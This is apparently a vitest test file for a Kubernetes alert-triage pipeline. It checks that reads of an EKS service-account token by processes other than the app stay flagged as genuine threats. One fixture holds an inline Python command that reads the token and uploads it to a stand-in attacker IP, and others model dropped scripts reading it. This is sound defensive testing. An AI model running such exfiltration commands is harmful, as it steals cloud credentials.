/**
 * Red-team traps for the excuses given to a workload's own behaviour: an attacker who knows the rule reads the declared
 * token file from a child of the app, uploads from a database pod with their own tool, tunnels out of a GitOps repo
 * server, or runs a miner in a pod the EDR keeps killing. Every alert here must stay genuine.
 */
import { describe, expect, it } from 'vitest';
import { triageAlert } from '../../../src/triage/pipeline.js';
import { alert, containerIdOf, indexOf, node, owner, pod } from '../../support/cluster.js';

const SHIM = { name: 'containerd-shim-runc-v2', commandLine: '/usr/bin/containerd-shim-runc-v2 -namespace k8s.io -id 0123' };
const at = (p: ReturnType<typeof pod>) => ({ id: containerIdOf(p).slice(0, 12), name: p.spec.containers[0].name, pod: p.metadata.name, namespace: p.metadata.namespace });

describe('redteam workload-identity: the declared token file read by something other than the app itself', () => {
  const N = 'ip-10-42-7-9.us-east-2.compute.internal';
  const T = (hms: string) => `2027-03-09T${hms}.000Z`;
  const TOKEN = '/var/run/secrets/eks.amazonaws.com/serviceaccount/token';
  const api = pod('reports-api-6f7c-x1', {
    namespace: 'reports',
    node: N,
    ip: '10.42.7.30',
    owner: { kind: 'ReplicaSet', name: 'reports-api-6f7c' },
    containers: [{ name: 'api', image: 'registry.example/reports-api:2.1', command: ['python'], args: ['/app/main.py'], env: [{ name: 'AWS_ROLE_ARN' }, { name: 'AWS_WEB_IDENTITY_TOKEN_FILE' }] }],
  });
  const index = indexOf([node(N, '10.42.7.9'), owner('ReplicaSet', 'reports-api-6f7c', 'reports'), api]);
  const read = (process: { name: string; path?: string; commandLine: string }, ancestors: { name: string; commandLine?: string }[]) =>
    triageAlert(alert({ time: T('15:30:12'), title: 'Read Cloud Credentials', process, ancestors, file: TOKEN, container: at(api) }), { index }).verdict;
  const MAIN = { name: 'python', commandLine: 'python /app/main.py' };

  it('still explains the app itself (python /app/main.py) re-reading its token', () => {
    expect(read(MAIN, [SHIM])).toMatchObject({ label: 'likely-false-positive', cause: 'workload-baseline' });
  });
  it('trap: inline Python (python -c) spawned through a shell by the app reads the token', () => {
    const v = read({ name: 'python', commandLine: "python -c \"import urllib.request as u;u.urlopen('http://203.0.113.7/t',open('/var/run/secrets/eks.amazonaws.com/serviceaccount/token','rb').read())\"" }, [{ name: 'sh', commandLine: 'sh -c python -c …' }, MAIN]);
    expect(v.label).toBe('genuine');
  });
  it('trap: another Python script dropped in /tmp reads the token', () => {
    expect(read({ name: 'python', commandLine: 'python /tmp/.cache/t.py' }, [MAIN]).label).toBe('genuine');
  });
  it('trap: another Python script in the app\'s writable home reads the token', () => {
    const v = read({ name: 'python', commandLine: 'python /home/app/.local/lib/sitecustom.py' }, [{ name: 'sh', commandLine: 'sh' }]);
    expect(v.label).toBe('genuine');
  });
  it('trap: inline Python without any network word reads the token', () => {
    const v = read({ name: 'python', commandLine: "python -c print(open('/var/run/secrets/eks.amazonaws.com/serviceaccount/token').read())" }, [{ name: 'sh', commandLine: 'sh' }]);
    expect(v.label).toBe('genuine');
  });
});
